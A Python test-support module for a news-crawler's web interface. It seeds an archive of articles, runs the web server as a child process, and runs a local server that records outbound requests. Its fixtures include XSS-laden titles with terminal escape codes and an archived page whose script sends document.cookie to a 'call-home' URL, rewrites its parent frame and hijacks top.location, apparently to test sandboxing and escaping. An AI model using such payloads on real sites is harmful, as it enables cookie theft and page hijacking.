"""A small archive for the web interface's tests, and `crawler web` run as a child process."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from datetime import time as dt_time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from zoneinfo import ZoneInfo

import httpx
from sqlalchemy import select
from sqlalchemy.orm import Session

from crawler.db.models import Article, ArticleTopic, CrawlRun, Source, Topic
from crawler.db.queries import archive_article, content_hash, store_snapshot
from crawler.db.session import Archive
from crawler.items import ArticleItem, FetchedPage
from crawler.pipelines.clean import clean_article, local_day
from crawler.read.web.queries import outlet_timezones
from tests.conftest import ROOT

SHOIGU_ARTICLES = 25
RECENT_ARTICLES = 6
TOKEN = "s3cret-token-for-the-web-tests"
HOSTILE_TITLE = "<script>document.title='pwned'</script> Kim \x1b[31mRED\x1b[0m meets Shoigu"
NOW = datetime.now(UTC).replace(microsecond=0)
DAY_ONLY = datetime(2024, 12, 11, 15, tzinfo=UTC)  # 12 December, midnight in Pyongyang


@dataclass
class Corpus:
    """Ids of what the archive holds."""

    edited: int = 0  # two versions, two snapshots
    hostile: int = 0  # hostile title; its snapshot runs scripts and calls home
    hostile_snapshot: int = 0
    day_only: int = 0  # published at midnight Pyongyang time
    misdeclared_snapshot: int = 0  # UTF-8 bytes served as iso-8859-1
    shoigu: list[int] = field(default_factory=list)


class CallHome:
    """A local HTTP server that records every request an archived page makes to it."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        recorded = self.paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                recorded.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"home")

            do_POST = do_GET

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> CallHome:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


def hostile_page(home: str) -> bytes:
    """An article page whose script would rewrite itself and its parent, and call home."""
    return f"""<!doctype html><html><head><title>archived page</title>
<link rel="stylesheet" href="{home}/style.css">
<style>p#marker {{ color: rgb(0, 0, 200); }}</style></head>
<body><h1>Kim meets Shoigu</h1><p id="marker">as archived</p>
<img src="{home}/beacon.png" alt="beacon">
<script src="{home}/tracker.js"></script>
<script>
document.getElementById('marker').textContent = 'script ran';
try {{ parent.document.body.innerHTML = 'PWNED'; }} catch (e) {{}}
try {{ parent.postMessage('hello', '*'); }} catch (e) {{}}
fetch('{home}/call-home?cookie=' + document.cookie);
new Image().src = '{home}/pixel';
top.location = '{home}/hijack';
</script>
<form action="{home}/form" method="post"><input name="q"></form>
</body></html>""".encode()


def _source(session: Session, name: str) -> int:
    found = session.scalar(select(Source.id).where(Source.name == name))
    if found is not None:
        return found
    source = Source(name=name, base_url=f"http://{name}.test")
    session.add(source)
    session.flush()
    return source.id


def store(
    archive: Archive,
    outlet: str,
    path: str,
    title: str,
    body: str,
    *,
    published: datetime | None = None,
    page: bytes | None = None,
    fetched_at: datetime | None = None,
    seen_at: datetime | None = None,
    content_type: str = "text/html; charset=utf-8",
) -> tuple[int, int]:
    """Archive one article (and its snapshot) through the project's own write path; the
    article's and the snapshot's ids."""
    url = f"http://{outlet}.test{path}"
    with archive.transaction() as session:
        source_id = _source(session, outlet)
        fetched = FetchedPage(
            requested_url=url,
            final_url=url,
            status=200,
            headers={"Content-Type": [content_type]},
            body=page or f"<html><body><h1>{title}</h1><p>{body}</p></body></html>".encode(),
            fetched_at=fetched_at or NOW,
        )
        snapshot = store_snapshot(session, source_id, None, fetched)
        item = ArticleItem(
            outlet=outlet,
            url=url,
            title=title,
            body=body.split("\n\n"),
            published=published or datetime(2024, 7, 1, 9, 30, tzinfo=UTC),
            timezone=str(outlet_timezones().get(outlet, "UTC")),
            author="Staff writer",
        )
        # the UTC instant, local day and precision as a crawl stores them; the text kept as
        # given, so pages are tested with hostile text an older archive may hold
        clean_article(item)
        item.title, item.body = title, body.split("\n\n")
        if item.published_at is not None:
            local = item.published_at.astimezone(ZoneInfo(item.timezone))
            if local.time() == dt_time(0):
                item.published_precision = "day"  # a page that showed only its date
        item.canonical_url = url
        item.content_hash = content_hash(item)
        item.snapshot_id = snapshot.id
        _, ref = archive_article(session, source_id, item, seen_at=seen_at or fetched.fetched_at)
        return ref.id, snapshot.id


def populate(url: str, home: str) -> Corpus:
    """The archive the web tests read."""
    corpus = Corpus()
    archive = Archive(url)
    try:
        for n in range(SHOIGU_ARTICLES):
            article_id, _ = store(
                archive,
                ("urdupoint", "islam_times", "al_mayadeen")[n % 3],
                f"/news/shoigu-{n}",
                f"Shoigu visit report {n}",
                f"Report number {n} on the visit. Shoigu met officials in Pyongyang.",
                published=datetime(2024, 7, 1, tzinfo=UTC) + timedelta(days=n),
            )
            corpus.shoigu.append(article_id)
        first = (
            "The university has set up more than 30 units.\n\n"
            "It said the work helped to cut costs.\n\n"
            "Officials praised the results."
        )
        corpus.edited, _ = store(
            archive,
            "kcna_watch",
            "/newstream/kim-chaek",
            "Kim Chaek University boosts links with industry",
            first,
            fetched_at=NOW - timedelta(days=2),
        )
        second = first.replace("30 units", "40 units").replace("helped to", "has helped to")
        store(
            archive,
            "kcna_watch",
            "/newstream/kim-chaek",
            "Kim Chaek University boosts links with industry",
            second,
            fetched_at=NOW - timedelta(days=1),
        )
        corpus.hostile, corpus.hostile_snapshot = store(
            archive,
            "kcna_watch",
            "/newstream/hostile",
            HOSTILE_TITLE,
            "A body with \x1b[2J a terminal escape and <b>markup</b> as text.",
            page=hostile_page(home),
        )
        # 12/12/2024 on KCNA Watch: midnight in Pyongyang
        corpus.day_only, _ = store(
            archive,
            "kcna_watch",
            "/newstream/day-only",
            "A day-only date",
            "Nothing but the date is known.",
            published=datetime(2024, 12, 11, 15, tzinfo=UTC),
        )
        _, corpus.misdeclared_snapshot = store(
            archive,
            "islam_times",
            "/en/news/1148421",
            "Lebanon’s army on alert",
            "Lebanon’s army said so.",
            page="<html><body><p id='text'>Lebanon’s army said so.</p></body></html>".encode(),
            content_type="text/html; charset=iso-8859-1",
        )
        for days_ago in range(RECENT_ARTICLES):  # for the charts of articles per day
            store(
                archive,
                "urdupoint",
                f"/news/recent-{days_ago}",
                f"Market prices on day {days_ago}",
                "Prices of rice and fuel were steady.",
                published=NOW - timedelta(days=days_ago),
            )
        with archive.transaction() as session:
            topic = Topic(name="dprk-russia")
            session.add(topic)
            session.flush()
            for article_id in corpus.shoigu[:5]:
                session.add(ArticleTopic(article_id=article_id, topic_id=topic.id))
            kcna = _source(session, "kcna_watch")
            for days_ago, status, stats in (
                (3, "finished", {"fallback/generic/body": 2, "fallback/metadata/title": 1}),
                (2, "failed", None),
                (1, "finished", {"fallback/generic/body": 1}),
            ):
                started = NOW - timedelta(days=days_ago)
                session.add(
                    CrawlRun(
                        source_id=kcna,
                        started_at=started,
                        finished_at=started + timedelta(seconds=75),
                        status=status,
                        trigger="scheduled",
                        pages=12,
                        articles_new=3 if status == "finished" else 0,
                        errors=0 if status == "finished" else 1,
                        error_log=None if status == "finished" else "DNS lookup failed",
                        stats=stats,
                    )
                )
    finally:
        archive.dispose()
    return corpus


@dataclass
class StoryCorpus:
    """Ids of what the stories archive holds."""

    articles: dict[str, int] = field(default_factory=dict)  # by bench.stories_set key
    hostile_copy: int = 0  # a copy at another outlet, under a hostile title
    edited: int = 0  # edited a day ago: a word of its body, then (again) its title
    hostile_edit: int = 0  # edited a day ago: markup and an escape sequence put into its body
    old_edit: int = 0  # edited 30 days ago
    topic: str = "shoigu-visit"  # tags the Shoigu story's first article


def populate_stories(url: str) -> StoryCorpus:
    """An archive of stories and edits: the mirrors' articles stored as a crawl stores them
    (their copies and five stories linked as they come, bench/stories_set.py), a hostile copy,
    and articles edited at known moments."""
    from bench.stories_set import edited_copy, mirror_articles, store_set

    corpus = StoryCorpus()
    archive = Archive(url)
    try:
        originals = mirror_articles()
        corpus.articles = store_set(archive, originals)
        meeting = next(a for a in originals if a.key == "kim-jong-un-hosts-russia")
        copy = edited_copy(meeting, "hostile", "wire_h", "https://wire-h.example/a/1", seed=5)
        copied = store_set(archive, [replace(copy, title=HOSTILE_TITLE)])
        corpus.hostile_copy = copied["hostile"]
        local_days(archive, [*corpus.articles.values(), corpus.hostile_copy])
        with archive.transaction() as session:
            topic = Topic(name=corpus.topic)
            session.add(topic)
            session.flush()
            session.add(ArticleTopic(article_id=corpus.articles["1706918"], topic_id=topic.id))
        body = "The plant fulfilled its plan.\n\nWorkers made 30 machines in June."
        # KCNA Watch gives only the day: midnight in Pyongyang, 12 December
        when = {"fetched_at": NOW - timedelta(days=3), "published": DAY_ONLY}
        corpus.edited, _ = store(archive, "kcna_watch", "/e/1", "Plant fulfils plan", body, **when)
        store(
            archive,
            "kcna_watch",
            "/e/1",
            "Plant fulfils plan",
            body.replace("30 machines", "40 machines"),
            fetched_at=NOW - timedelta(days=2),
            published=DAY_ONLY,
        )
        store(
            archive,
            "kcna_watch",
            "/e/1",
            "Plant overfulfils plan",
            body.replace("30 machines", "40 machines"),
            fetched_at=NOW - timedelta(days=1),
            published=DAY_ONLY,
        )
        hostile_body = "Prices were steady."
        corpus.hostile_edit, _ = store(
            archive,
            "urdupoint",
            "/e/2",
            "Prices steady",
            hostile_body,
            fetched_at=when["fetched_at"],
        )
        store(
            archive,
            "urdupoint",
            "/e/2",
            "Prices steady",
            "Prices were <script>alert(1)</script> \x1b[31msteady.",
            fetched_at=NOW - timedelta(days=1, hours=2),
        )
        corpus.old_edit, _ = store(
            archive,
            "islam_times",
            "/e/3",
            "An old edit",
            "Once upon a time.",
            fetched_at=NOW - timedelta(days=40),
        )
        store(
            archive,
            "islam_times",
            "/e/3",
            "An old edit",
            "Once upon a later time.",
            fetched_at=NOW - timedelta(days=30),
        )
    finally:
        archive.dispose()
    return corpus


def local_days(archive: Archive, ids: list[int]) -> None:
    """Give articles stored without it their local day and precision as a crawl does: the
    spider's naive local time, read in the outlet's time zone by the clean pipeline."""
    with archive.transaction() as session:
        rows = session.execute(
            select(Article, Source.name)
            .join(Source, Source.id == Article.source_id)
            .where(Article.id.in_(ids))
        )
        for article, outlet in rows:
            if article.published_at is None:
                continue
            zone = outlet_timezones().get(outlet, ZoneInfo("UTC"))
            local = article.published_at.astimezone(zone).replace(tzinfo=None)
            article.published_date, article.published_precision = local_day(local, str(zone))


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


@dataclass
class WebServer:
    """`crawler web` in a child process."""

    process: subprocess.Popen[str]
    url: str
    log: Path

    def stop(self) -> None:
        self.process.terminate()
        try:
            self.process.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()


def start_web(
    db_url: str,
    log: Path,
    *,
    token: str | None = None,
    sources: Path | None = None,
    host: str = "127.0.0.1",
) -> WebServer:
    """Start `crawler web` on a free port and wait until it answers."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("CRAWLER_")}
    if token:
        env["CRAWLER_WEB_TOKEN"] = token
    port = free_port()
    args = [sys.executable, "-m", "crawler.cli", "web", "--db", db_url, "--port", str(port)]
    args += ["--host", host]
    if sources:
        args += ["--sources", str(sources)]
    stream = log.open("w")
    process = subprocess.Popen(args, cwd=ROOT, env=env, stdout=stream, stderr=stream, text=True)
    server = WebServer(process, f"http://127.0.0.1:{port}", log)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        if process.poll() is not None:
            raise AssertionError(f"crawler web exited {process.returncode}: {log.read_text()}")
        try:
            httpx.get(server.url + "/static/style.css", timeout=2)
            return server
        except httpx.TransportError:
            time.sleep(0.2)
    server.stop()
    raise AssertionError(f"crawler web did not answer within 60 s: {log.read_text()}")


@dataclass
class Served:
    """The web tests' archive, served."""

    db_url: str
    corpus: Corpus
    server: WebServer
    home: CallHome

    @property
    def url(self) -> str:
        return self.server.url


def serve(db_url: str, log: Path, home: CallHome, token: str | None = None) -> Iterator[Served]:
    corpus = populate(db_url, home.url)
    server = start_web(db_url, log, token=token)
    try:
        yield Served(db_url, corpus, server, home)
    finally:
        server.stop()


@dataclass
class ServedStories:
    """The stories archive, served."""

    db_url: str
    corpus: StoryCorpus
    server: WebServer

    @property
    def url(self) -> str:
        return self.server.url


def serve_stories(db_url: str, log: Path) -> Iterator[ServedStories]:
    corpus = populate_stories(db_url)
    server = start_web(db_url, log)
    try:
        yield ServedStories(db_url, corpus, server)
    finally:
        server.stop()
